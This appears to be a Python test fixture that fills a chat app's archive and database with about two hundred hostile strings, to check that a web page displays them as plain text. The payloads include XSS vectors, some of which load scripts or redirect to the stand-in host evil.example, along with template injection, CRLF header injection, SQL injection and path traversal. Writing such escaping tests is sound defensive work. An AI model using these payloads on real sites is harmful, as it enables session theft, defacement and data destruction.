"""Two hundred texts that would do something if a page took them for anything but text: as names, messages and
suggestions."""

from contextlib import closing
from itertools import islice, product
from pathlib import Path

from bot.livedb import LiveDb
from data.archive import Archive
from data.consent import Ledger
from data.message import Dialog, Kind, Message
from data.transcript import Scope
from tests.paper_house import PaperHouse, paper_house, suggest

DEED = "window.harmed=1"
TAGS = (
    f"<script>{DEED}</script>",
    f"<ScRiPt >{DEED}</sCrIpT>",
    f"<script src=//evil.example/x.js></script><script>{DEED}</script>",
    f"<img src=x onerror={DEED}>",
    f'<img src="x" onerror="{DEED}">',
    f"<svg onload={DEED}>",
    f"<svg><script>{DEED}</script></svg>",
    f"<svg><animate onbegin={DEED} attributeName=x dur=1s>",
    f"<body onload={DEED}>",
    f"<iframe srcdoc='<script>parent.{DEED}</script>'></iframe>",
    f"<iframe src='javascript:parent.{DEED}'></iframe>",
    f"<a href='javascript:{DEED}' autofocus onfocus={DEED}>x</a>",
    f"<input autofocus onfocus={DEED}>",
    f"<textarea autofocus onfocus={DEED}>",
    f"<details open ontoggle={DEED}>",
    f"<video><source onerror={DEED}></video>",
    f"<form action='javascript:{DEED}'><button id=go>x",
    f"<object data='javascript:{DEED}'></object>",
    f"<embed src='javascript:{DEED}'>",
    f"<math><mtext><mglyph><style><!--</style><img src=x onerror={DEED}>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    f"<div hx-get='/state' hx-trigger='load' hx-on::load='{DEED}'>",
    "<div hx-post='/state/pause' hx-trigger='load'></div>",
    "<div hx-swap-oob='true' id='state'>taken over</div>",
    "<input type=hidden name=shown value=1.1>",
    f"<template><script>{DEED}</script></template><marquee onstart={DEED}>",
    f"<noscript><p title='</noscript><img src=x onerror={DEED}>'>",
)
OUT_OF = ("{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "</p></li></article>{}", "<!-- {} -->{}", "]]>{}")
OTHERS = (
    "{{ 7 * 7 }}",
    "{% include 'base.html' %}",
    "{{ csrf }}",
    "${7*7}",
    "javascript:alert(1)",
    "data:text/html,<script>1</script>",
    "&lt;script&gt;1&lt;/script&gt;",
    "&#x3c;script>1",
    "\u202egnp.exe\u202c",
    "\u2066right to left\u2069\u200f",
    "null\x00byte\x1b[31mred",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>1</script>",
    "line\u2028separator\u2029",
    "\ufeff<script>1</script>",
    "Ünïcödé ＜script＞alert＜/script＞",
    "a" * 3000,
    "‮" * 50,
    "<" * 500,
    "'; DROP TABLE suggestions; --",
    "../../../etc/passwd",
)
PAYLOADS = (*OTHERS, *(frame.replace("{}", tag) for tag, frame in islice(product(TAGS, OUT_OF), 180)))
"""The plain tags, and the same behind what could end the place they are put into."""
FIRST = 500_000
"""The number of the first of these chats."""


def hostile_house(path: Path) -> PaperHouse:
    """A chat for each text: its name, what was said in it, how its consent was given, and what the twin proposes and
    has written."""
    house = paper_house(path, people=0)
    with closing(Archive(house.home.archive)) as archive, closing(LiveDb(house.home.live)) as live, live.transaction():
        for number, text in enumerate(PAYLOADS):
            dialog = Dialog(FIRST + number, Kind.PRIVATE, text, f"user{number}")
            archive.save_dialogs([dialog])
            at = house.now
            Ledger(archive).grant(dialog.id, Scope.CHAT, text, text, at)
            said = [Message(dialog.id, 1, True, at, text), Message(dialog.id, 2, False, at, text)]
            archive.save(said)
            made = suggest(live, said[1], (text, text), 0.5, (text,), at)
            live.db.execute(
                "INSERT INTO outbox (suggestion_id, position, dialog_id, random_id, text, state, due_at, sent_at)"
                " VALUES (?, 0, ?, ?, ?, 'sent', 0, ?)",
                (made.id, dialog.id, made.id, text, at.timestamp()),
            )
    return house
